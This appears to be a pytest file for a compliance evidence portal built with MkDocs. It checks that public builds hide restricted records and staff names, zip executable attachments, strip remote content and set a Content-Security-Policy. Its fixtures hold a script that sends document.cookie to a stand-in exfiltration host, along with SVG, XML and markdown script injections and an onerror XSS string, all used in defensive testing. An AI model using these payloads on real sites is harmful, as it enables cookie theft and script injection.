"""A public build is safe for the open web (real `mkdocs build --strict` runs): no trace of
restricted evidence anywhere, roles not names, counts and status not staff records,
attachments that cannot run, nothing from other hosts, and a Content-Security-Policy on every
page. The same pages in the browser: tests/portal/test_browser.py."""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import re
import zipfile

from portal_helpers import make_portal_repo, mkdocs_build, site_files, widen

SECRET_EVIDENCE = """\
---
id: EV-ZQ-SECRET-77
title: Quokka-Marmalade disciplinary notes
collected: 2026-06-10
by: bob
supports: []
outcome: pass
classification: restricted
files:
  - path: zanzibar-hr-letter.txt
    sha256: {digest}
---
The Quokka-Marmalade matter: confidential details.
"""
SECRET_FOLLOW_UP = """\
---
id: EV-ZQ-SECRET-78
title: Quokka-Marmalade follow-up
collected: 2026-06-20
by: bob
supports: [GV-1]
outcome: pass
classification: restricted
---
Followed up.
"""
# every way the restricted records could be named: IDs, titles, folder, file and attachment
TRACES = (b"ev-zq-secret", b"quokka", b"marmalade", b"zanzibar")


def _leaks(files: dict[str, bytes]) -> list[str]:
    found = []
    for path, data in files.items():
        if path.endswith(".gz"):
            data = gzip.decompress(data)
        elif path.endswith(".zip"):
            with zipfile.ZipFile(io.BytesIO(data)) as archive:
                data = b"".join(name.encode() + archive.read(name) for name in archive.namelist())
        found += [f"{path}: {trace.decode()}" for trace in TRACES
                  if trace in path.lower().encode() or trace in data.lower()]
    return found


def test_a_public_build_and_export_leave_no_trace_of_restricted_evidence(tmp_path, git_repo):
    repo = git_repo
    make_portal_repo(repo)
    digest = repo.attach("evidence/quokkafolder/zanzibar-hr-letter.txt", b"Dear Quokka,\n")
    repo.write("evidence/quokkafolder/marmalade-notes.md", SECRET_EVIDENCE.format(digest=digest))
    repo.write("evidence/quokkafolder/marmalade-followup.md", SECRET_FOLLOW_UP)
    repo.commit("Add EV-ZQ-SECRET-77 Quokka-Marmalade disciplinary notes "
                "(evidence/quokkafolder/marmalade-notes.md, zanzibar-hr-letter.txt)",
                date="2026-06-25")

    public = mkdocs_build(repo.root, tmp_path / "public", as_of="2026-07-01")
    assert public.code == 0, public.output
    assert _leaks(site_files(tmp_path / "public")) == []
    # the findings, the claim's evidence and the history are all there, naming nothing
    gaps = (tmp_path / "public/gaps.html").read_text()
    ev101 = re.search(r'<tr><td><a class="dspt-id" href="rules/EV101.html">.*?</tr>', gaps)
    assert ev101 and '<code class="dspt-id">a restricted record</code>' in ev101.group(0)
    assert "An evidence file supports no claim. (a restricted record)" in ev101.group(0)
    rule = (tmp_path / "public/rules/EV101.html").read_text()
    assert '<code class="dspt-id">a restricted record</code>' in rule
    assert "superseded by a restricted record" in (tmp_path / "public/evidence/EV-1.html").read_text()
    dashboard = (tmp_path / "public/index.html").read_text()
    assert "Add a restricted record a restricted record (a restricted record, a restricted " \
           "record)" in dashboard
    assert "2 restricted records not published" in (tmp_path / "public/evidence/index.html").read_text()

    from dsptkit.main import main

    export = tmp_path / "export"
    assert main(["portal", "export", str(export), "--repo", str(repo.root), "--as-of",
                 "2026-07-01"]) == 0
    assert _leaks(site_files(export)) == []

    internal = mkdocs_build(repo.root, tmp_path / "internal", as_of="2026-07-01", internal=True)
    assert internal.code == 0, internal.output
    found = _leaks(site_files(tmp_path / "internal"))  # the test's traces are real
    assert {leak.rsplit(": ", 1)[1] for leak in found} == {t.decode() for t in TRACES}


REGISTERS = {
    "evidence/registers/people.yaml": """\
        people:
          - {id: alice, name: Zelda Quill, role: SIRO, started: 2019-01-01}
          - {id: bob, name: Yusuf Brambleby, role: IT lead, started: 2020-03-02}
          - {id: cara, name: Cara Crumb, role: IT lead, started: 2026-08-01}
        """,
    "evidence/registers/assets.yaml": """\
        assets:
          - {name: Gorsefield kiosk, kind: hardware, version: Kestrel OS 3.1,
             supported_until: 2020-01-14, holds_personal_data: true}
          - {name: Brackenfern app, kind: software, version: "9.87",
             supported_until: 2030-01-01, holds_personal_data: true}
        """,
    "evidence/registers/incidents.yaml": """\
        incidents:
          - id: INC-1
            date: 2026-03-03
            summary: A letter went to the wrong patient in Hightown.
            reported_to: [ICO]
            lessons: Addresses are checked twice.
            closed: 2026-03-20
          - id: INC-2
            date: 2026-06-01
            summary: A laptop was left on the Lowtown bus.
            reported_to: []
        """,
}
STAFF = ("Zelda Quill", "Yusuf Brambleby", "Cara Crumb", "2019-01-01", "2020-03-02")
SYSTEMS = ("Gorsefield kiosk", "Kestrel OS", "2020-01-14", "Brackenfern app", "9.87")
STORIES = ("Hightown", "Lowtown", "2026-03-03", "INC-1")


def test_a_public_build_shows_roles_counts_and_lessons_and_widens_field_by_field(tmp_path, repo):
    make_portal_repo(repo)
    for path, text in REGISTERS.items():
        repo.write(path, text)
    build = mkdocs_build(repo.root, tmp_path / "public", as_of="2026-07-01")
    assert build.code == 0, build.output
    pages = build.pages()
    for shown in STAFF + SYSTEMS + STORIES:
        assert [path for path, text in pages.items() if shown in text] == [], shown
    html = pages["registers.html"]
    assert "<tr><td>IT lead</td><td>1</td><td>1 of 1</td><td>1</td></tr>" in html
    assert "<tr><td>SIRO</td><td>1</td><td>1 of 1</td><td></td></tr>" in html
    assert re.search(r'dspt-not-met">unsupported</span></td><td>1</td><td>1</td>', html)
    assert "2 incidents recorded: 1 closed, 1 open; 1 reported outside the organisation." in html
    assert "<li>Addresses are checked twice.</li>" in html
    gaps = pages["gaps.html"]  # RG102 names the system: the public build says what, not which
    assert "An asset in the register is past the end of its vendor support." in gaps
    policy = pages["policies/governance.html"]
    assert "<dt>Owner</dt><dd>siro</dd>" in policy
    assert "<th>Author</th>" not in policy  # commit authors are names too

    widen(repo, people=["names", "dates"], assets=["names", "versions", "support_dates"],
          incidents=["dates", "summaries"])
    wide = mkdocs_build(repo.root, tmp_path / "wide", as_of="2026-07-01")
    assert wide.code == 0, wide.output
    html = (tmp_path / "wide/registers.html").read_text()
    for shown in STAFF + SYSTEMS + STORIES:
        assert shown in html, shown
    assert "asset &#39;Gorsefield kiosk&#39; has been out of vendor support" in \
        (tmp_path / "wide/gaps.html").read_text()
    assert "<dt>Owner</dt><dd>Zelda Quill (siro)</dd>" in \
        (tmp_path / "wide/policies/governance.html").read_text()

    widen_names_only = (repo.root / "mkdocs.yml").read_text().replace(
        "people: [names, dates]", "people: [names]").replace(
        "assets: [names, versions, support_dates]", "assets: [names]")
    (repo.root / "mkdocs.yml").write_text(widen_names_only)
    some = mkdocs_build(repo.root, tmp_path / "some", as_of="2026-07-01")
    assert some.code == 0, some.output
    html = (tmp_path / "some/registers.html").read_text()
    assert "Zelda Quill" in html and "2019-01-01" not in html
    assert "Gorsefield kiosk" in html and "Kestrel OS" not in html and "2020-01-14" not in html


def test_an_unknown_public_field_fails_the_build(tmp_path, repo):
    make_portal_repo(repo)
    widen(repo, people=["salaries"])
    build = mkdocs_build(repo.root, tmp_path / "site", as_of="2026-07-01")
    assert build.code != 0
    assert "salaries" in build.output and "names" in build.output


def test_a_build_to_publish_refuses_to_be_internal(tmp_path, repo):
    make_portal_repo(repo)
    build = mkdocs_build(repo.root, tmp_path / "site", as_of="2026-07-01", internal=True,
                         env={"DSPT_PORTAL_PUBLIC": "1"})
    assert build.code != 0
    assert "an internal build contains restricted evidence and must not be published" in \
        build.output
    assert not (tmp_path / "site/index.html").exists()
    public = mkdocs_build(repo.root, tmp_path / "public", as_of="2026-07-01",
                          env={"DSPT_PORTAL_PUBLIC": "1"})
    assert public.code == 0, public.output


PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAE"
                       "hQGAhKmMIQAAAABJRU5ErkJggg==")
ACTIVE = {
    "page.html": b"<script>alert('html'); window.__pwned = 1; "
                 b"fetch('https://exfil.example.net/?' + document.cookie)</script>",
    "diagram.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert("svg")</script></svg>',
    "data.xml": b'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">'
                b'alert("xml")</x:script>',
    "notes.markdown": b"# Notes\n\n<script>alert('md')</script>\n",  # MkDocs would make a page
}


def attachments_record(repo) -> None:  # type: ignore[no-untyped-def]
    """An evidence record with attachments a browser would run, two files of one name in
    different folders, and a body that reaches for other hosts."""
    files = []
    for name, data in ACTIVE.items():
        files.append((name, repo.attach(f"evidence/2026/h/{name}", data)))
    files.append(("one/shot.png", repo.attach("evidence/2026/h/one/shot.png", PNG)))
    files.append(("two/shot.png", repo.attach("evidence/2026/h/two/shot.png", PNG + b"2")))
    listed = "".join(f"  - path: {name}\n    sha256: {digest}\n" for name, digest in files)
    repo.write("evidence/2026/h/hostile.md", f"""\
---
id: EV-H
title: Hostile attachments
collected: 2026-06-10
by: bob
supports: [GV-1]
outcome: pass
files:
{listed}---
![a remote picture](https://images.example.net/tracker.png)
<img src="https://images.example.net/raw.png" alt="raw remote">
<iframe src="https://frames.example.net/"></iframe>
![the diagram](diagram.svg) ![first shot](one/shot.png) [the diagram file](diagram.svg)
""")


def test_attachments_that_could_run_download_as_zips_and_each_has_its_own_url(tmp_path, repo):
    make_portal_repo(repo)
    attachments_record(repo)
    build = mkdocs_build(repo.root, tmp_path / "site", as_of="2026-07-01")
    assert build.code == 0, build.output
    files = tmp_path / "site/evidence/files/EV-H"
    published = sorted(str(p.relative_to(files)) for p in files.rglob("*") if p.is_file())
    one = hashlib.sha256(b"evidence/2026/h/one/shot.png").hexdigest()[:10]
    two = hashlib.sha256(b"evidence/2026/h/two/shot.png").hexdigest()[:10]
    assert published == sorted(["data.xml.zip", "diagram.svg.zip", "notes.markdown.zip",
                                "page.html.zip", f"{one}/shot.png", f"{two}/shot.png"])
    assert (files / one / "shot.png").read_bytes() == PNG
    assert (files / two / "shot.png").read_bytes() == PNG + b"2"
    for name, data in ACTIVE.items():
        with zipfile.ZipFile(files / f"{name}.zip") as archive:
            assert archive.namelist() == [name] and archive.read(name) == data
    assert not (tmp_path / "site/evidence/files/EV-H/notes.html").exists()  # never a page
    html = (tmp_path / "site/evidence/EV-H.html").read_text()
    assert html.count("downloads as a zip: opened in a browser, this type of file could run") == 4
    assert re.findall(r'<img src="([^"]*)" alt="[^"]*" class="dspt-attachment">', html) == \
        [f"files/EV-H/{one}/shot.png", f"files/EV-H/{two}/shot.png"]
    document = html.split('<div class="dspt-document">')[1].split("</div>")[0]
    assert '<a href="https://images.example.net/tracker.png" rel="noopener noreferrer">a ' \
           'remote picture</a>' in document
    assert "raw.png" not in document and "iframe" not in document and "frames." not in document
    # an SVG is never an image on the page: a link to its zip instead
    assert '<a href="files/EV-H/diagram.svg.zip" rel="noopener noreferrer">the diagram</a>' in \
        document
    assert f'<img alt="first shot" src="files/EV-H/{one}/shot.png">' in document
    assert '<a href="files/EV-H/diagram.svg.zip" rel="noopener noreferrer">the diagram file' in \
        document


def test_every_page_carries_a_content_security_policy_allowing_only_the_site(example_site):
    pages = [p for p in example_site.site.rglob("*.html")]
    assert len(pages) > 100
    for page in pages:
        html = page.read_text("utf-8")
        head = html.split("<head>", 1)[1]
        metas = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', html)
        assert len(metas) == 1, page
        assert head.index("Content-Security-Policy") < head.index("<script")  # before any script
        policy = dict(part.strip().split(" ", 1) for part in metas[0].split(";"))
        assert policy["default-src"] == "'self'" and policy["style-src"] == "'self'"
        assert policy["img-src"] == "'self' data:" and policy["object-src"] == "'none'"
        assert "unsafe" not in metas[0] and "http" not in metas[0]
        # no inline script runs but the theme's own, each allowed by its hash
        inline = re.findall(r"<script>(.*?)</script>", html, re.S)
        hashes = {"'sha256-" + base64.b64encode(hashlib.sha256(s.encode()).digest()).decode() +
                  "'" for s in inline}
        assert set(policy["script-src"].split()) == {"'self'"} | hashes, page
        assert 'style="' not in html.split('class="md-content"')[1]  # no inline style


def test_the_organisations_name_is_text_in_the_header_and_title(tmp_path, capsys):
    from dsptkit.main import main

    name = "<img src=x onerror=alert(1)> & Sons"
    assert main(["init", str(tmp_path / "org"), "--name", name, "--category", "3",
                 "--no-git"]) == 0
    build = mkdocs_build(tmp_path / "org", tmp_path / "site")
    assert build.code == 0, build.output
    leaks = [path for path, text in build.pages().items() if "<img src=x" in text]
    assert leaks == []
    html = (tmp_path / "site/index.html").read_text()
    escaped = "&lt;img src=x onerror=alert(1)&gt; &amp; Sons — DSPT evidence"
    assert f"<title>Dashboard - {escaped}</title>" in html
    assert f'title="{escaped}"' in html  # not escaped twice by the theme's own `| e`
    assert re.search(r'<span class="md-ellipsis">\s*' + re.escape(escaped), html)
